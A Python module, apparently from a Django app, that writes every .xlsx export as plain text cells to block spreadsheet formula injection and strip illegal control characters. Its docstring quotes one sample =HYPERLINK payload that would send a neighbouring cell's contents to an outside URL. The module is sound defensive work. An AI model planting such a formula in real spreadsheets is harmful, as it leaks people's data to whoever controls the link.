"""The one writer of every .xlsx export (the roster, the discipline record, the question
bank, the score report, the dashboards' tables): a cell says what the database holds, as
text, and never does anything.

- A str is always a text cell. openpyxl makes a str that starts with "=" a formula, and
  "#N/A" and its kind an error value: a group named =HYPERLINK("http://…?d="&B5,"点此查看")
  would become a link, in the score report mailed to the bureau, that sends a neighbouring
  cell away when clicked. The imports refuse such cells, but a form (a group, a unit, a venue,
  a speaker) rightly takes "-" or "=" as text, so the file must keep it text.
- The characters an .xlsx cannot hold are dropped (trainees.text.without_control, and
  openpyxl's own list, whatever a later openpyxl adds to it). The forms drop them on the way
  in (trainees.middleware.ControlCharactersMiddleware), but data stored before, or written
  in bulk, still has them, and openpyxl's IllegalCharacterError made the export a 500 for
  every reader of the program.
- Numbers, dates and booleans stay what they are, for the reader to sort and sum.

An export makes its workbook with `workbook`, its sheets with `sheet`, writes rows with
`append` (or, in a workbook that is not write-only, a cell in place with `put`) and ends with
`content`; `opened` reads one back to change a cell with `assign`.
tests/trainees/test_workbooks.py fails when a module makes a workbook or writes a cell any
other way (trainees.spreadsheets, the imports' reader, only reads).
"""

import io
import re

from django.utils.functional import Promise

from trainees.text import without_control

# What Excel refuses in a sheet's name; it keeps 31 characters of it.
SHEET_TITLE_REFUSED = re.compile(r"[\\/*?:\[\]]")
SHEET_TITLE_LENGTH = 31
STYLES = ("font", "fill", "border", "alignment", "number_format")


def text(value):
    """`value` (a str) as a cell can hold it: without control characters."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", without_control(value))


def workbook(*, write_only=True):
    """A new workbook without sheets. Write-only (streamed, rows written once in order, styles
    and widths set before the first row) unless the export needs to place cells itself, set
    an auto filter or read its sheets back, as the score report does."""
    from openpyxl import Workbook

    book = Workbook(write_only=write_only)
    if not write_only:
        book.remove(book.active)  # every sheet is made by `sheet`, in both kinds
    return book


def sheet(book, title):
    """A new sheet at the end of `book`, named `title` as Excel accepts it."""
    name = SHEET_TITLE_REFUSED.sub("_", text(str(title)))[:SHEET_TITLE_LENGTH]
    return book.create_sheet(name or None)


def assign(cell, value):
    """Put `value` in `cell`: a str (or a translated text) as text, anything else as it is."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        cell.value = text(value)
        cell.data_type = "s"  # never "f" (a formula) nor "e" (an error value)
    else:
        cell.value = value
    return cell


def styled(cell, styles):
    for name, style in styles.items():
        if name not in STYLES:
            raise TypeError(f"{name} is not a cell style")
        setattr(cell, name, style)
    return cell


def append(sheet, values, **styles):
    """Append a row of `values` to `sheet`, each cell with `styles` (font, fill, border,
    alignment, number_format). Works in both kinds of workbook: openpyxl writes the cells we
    give it as they are, where it would guess a type from a bare value."""
    from openpyxl.cell import WriteOnlyCell

    sheet.append([styled(assign(WriteOnlyCell(sheet), value), styles) for value in values])


def put(sheet, row, column, value, **styles):
    """Put `value` at (`row`, `column`) of a sheet that is not write-only; returns the cell."""
    return styled(assign(sheet.cell(row=row, column=column), value), styles)


def opened(content):
    """The workbook of an .xlsx this writer made, to change some cells in place with `assign`
    and save again with `content` (the erasure of a trainee from a published score report).
    What is not changed is saved as it was read: a text cell stays text."""
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(content))


def content(book):
    """The .xlsx file's bytes."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
